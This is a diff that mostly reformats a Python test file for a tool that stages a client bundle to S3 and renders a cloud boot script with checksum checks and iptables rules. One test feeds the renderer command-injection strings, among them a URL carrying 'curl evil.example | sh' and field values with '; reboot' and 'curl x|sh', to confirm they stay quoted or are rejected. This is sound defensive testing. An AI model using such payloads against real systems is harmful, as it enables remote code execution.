@@ -1,5 +1,6 @@
 """The client bundle (reproducible, complete, staged once to S3 with a presigned URL), the boot
 script's agent section (checksum-checked, quoted, firewalled), and where the client runs by default."""
+
 from __future__ import annotations
 
 import hashlib
@@ -48,7 +49,9 @@ def _closure(names: tuple[str, ...]) -> set[str]:
             reqs = md.requires(n) or []
         except md.PackageNotFoundError:
             continue
-        todo += [re.split(r"[ ;<>=!~\[(]", r, maxsplit=1)[0].lower().replace("_", "-") for r in reqs if "extra ==" not in r]
+        todo += [
+            re.split(r"[ ;<>=!~\[(]", r, maxsplit=1)[0].lower().replace("_", "-") for r in reqs if "extra ==" not in r
+        ]
     return seen
 
 
@@ -57,12 +60,14 @@ OPTIONAL = {"click", "pygments", "rich", "pytz", "setuptools"}
 
 
 def test_the_agent_requirements_cover_what_the_client_imports():
-    code = ("import sys, json, importlib.metadata as md\n"
-            "import bakeoff.agent.cli, bakeoff.agent.server, bakeoff.bench.cli, bakeoff.bench.sweep, bakeoff.bench.sla, "
-            "bakeoff.bench.workers, bakeoff.bench.fidelity, bakeoff.bench.provenance, bakeoff.cli\n"
-            "m = md.packages_distributions()\n"
-            "tops = {n.split('.')[0] for n in sys.modules} - set(sys.stdlib_module_names)\n"
-            "print(json.dumps(sorted({d for t in tops for d in m.get(t, [])} - {'bakeoff'})))")
+    code = (
+        "import sys, json, importlib.metadata as md\n"
+        "import bakeoff.agent.cli, bakeoff.agent.server, bakeoff.bench.cli, bakeoff.bench.sweep, bakeoff.bench.sla, "
+        "bakeoff.bench.workers, bakeoff.bench.fidelity, bakeoff.bench.provenance, bakeoff.cli\n"
+        "m = md.packages_distributions()\n"
+        "tops = {n.split('.')[0] for n in sys.modules} - set(sys.stdlib_module_names)\n"
+        "print(json.dumps(sorted({d for t in tops for d in m.get(t, [])} - {'bakeoff'})))"
+    )
     imported = json.loads(subprocess.check_output([sys.executable, "-c", code], text=True))
     have = _closure(bundle.AGENT_REQUIREMENTS) | OPTIONAL
     missing = [d for d in imported if d.lower().replace("_", "-") not in have]
@@ -74,8 +79,9 @@ def test_the_hashed_requirements_match_this_workers_pins():
     """The node installs bakeoff/agent/requirements-node.txt with --require-hashes: it must pin the whole
     closure of AGENT_REQUIREMENTS at the versions CI runs (regenerate: scripts/agent_requirements.py)."""
     root = bundle.package_root().parents[1]
-    done = subprocess.run([sys.executable, str(root / "scripts" / "agent_requirements.py"), "--check"],
-                          capture_output=True, text=True)
+    done = subprocess.run(
+        [sys.executable, str(root / "scripts" / "agent_requirements.py"), "--check"], capture_output=True, text=True
+    )
     assert done.returncode == 0, done.stderr
     pins = bundle.hashed_pins()
     assert set(pins) == set(bundle.closure_pins())
@@ -93,7 +99,7 @@ def test_staging_uploads_once_and_hands_out_a_presigned_url():
     assert second.sha256 == first.sha256 and "Signature=" in first.url and objects[0]["Key"] in first.url
     body = s3.get_object(Bucket="bakeoff-client", Key=objects[0]["Key"])["Body"].read()
     assert hashlib.sha256(body).hexdigest() == first.sha256
-    assert bundle.stage({}, 3600) is None                  # no bucket configured: no agent
+    assert bundle.stage({}, 3600) is None  # no bucket configured: no agent
 
 
 def _target(provider="aws", **opts):
@@ -109,13 +115,16 @@ def _agent(url="https://bucket.s3.amazonaws.com/c.zip?X-Amz-Signature=abc&X-Amz-
 
 def test_the_boot_script_checks_the_bundle_and_firewalls_the_agent():
     t = _target()
-    script = userdata.render(t, api_key=KEY, shutdown_after_s=3600, ingress_cidr="203.0.113.7/32",
-                             agent=_agent(), expires_at=1.9e9)
+    script = userdata.render(
+        t, api_key=KEY, shutdown_after_s=3600, ingress_cidr="203.0.113.7/32", agent=_agent(), expires_at=1.9e9
+    )
     assert f'echo "{"a" * 64}  /opt/bakeoff/client.zip" | sha256sum -c --quiet -' in script
     assert f"iptables -I INPUT -p tcp --dport {AGENT_PORT} -s 203.0.113.7/32 -j ACCEPT" in script
     assert f"iptables -I INPUT -p tcp --dport {AGENT_PORT} -j DROP" in script
-    assert ("pip install --no-cache-dir --quiet --require-hashes --only-binary=:all: "
-            "-r /opt/bakeoff/client/bakeoff/agent/requirements-node.txt") in script
+    assert (
+        "pip install --no-cache-dir --quiet --require-hashes --only-binary=:all: "
+        "-r /opt/bakeoff/client/bakeoff/agent/requirements-node.txt"
+    ) in script
     assert "--key-file /etc/bakeoff/api_key" in script and "--expires-at 1900000000" in script
     # the agent starts before the serving image is pulled, so a failed pull still has someone to tell
     assert script.index("bakeoff-agent") < script.index("docker pull")
@@ -126,17 +135,24 @@ def test_the_boot_script_checks_the_bundle_and_firewalls_the_agent():
 
 def test_a_hostile_bundle_url_stays_one_quoted_word():
     evil = "https://x/c.zip?a=1'; curl evil.example | sh; echo '"
-    script = userdata.render(_target(), api_key=KEY, shutdown_after_s=3600, ingress_cidr="203.0.113.7/32",
-                             agent=_agent(evil))
+    script = userdata.render(
+        _target(), api_key=KEY, shutdown_after_s=3600, ingress_cidr="203.0.113.7/32", agent=_agent(evil)
+    )
     line = next(ln for ln in script.splitlines() if ln.startswith("if curl"))
     words = shlex.split(line.removesuffix("\\"))
     assert evil in words
     with pytest.raises(ValueError, match="sha256"):
-        userdata.render(_target(), api_key=KEY, shutdown_after_s=60, ingress_cidr=None,
-                        agent={**_agent(), "sha256": "abc; reboot"})
+        userdata.render(
+            _target(), api_key=KEY, shutdown_after_s=60, ingress_cidr=None, agent={**_agent(), "sha256": "abc; reboot"}
+        )
     with pytest.raises(ValueError, match="requirements"):
-        userdata.render(_target(), api_key=KEY, shutdown_after_s=60, ingress_cidr=None,
-                        agent={**_agent(), "requirements": ["httpx; curl x|sh"]})
+        userdata.render(
+            _target(),
+            api_key=KEY,
+            shutdown_after_s=60,
+            ingress_cidr=None,
+            agent={**_agent(), "requirements": ["httpx; curl x|sh"]},
+        )
 
 
 def test_clouds_default_to_a_co_located_client_and_others_cannot_have_one():
@@ -160,6 +176,7 @@ def test_a_co_located_target_without_a_bucket_stops_before_launch():
 def test_presigned_url_serves_the_bundle_from_moto_server():
     """What a node does with the URL: a plain GET, no AWS credentials (moto in server mode)."""
     from bakeoff.sandbox import Sandbox
+
     with Sandbox() as sb:
         staged = bundle.stage(sb.credentials("client_bundle"), 3600)
         got = httpx.get(staged.url, timeout=10)
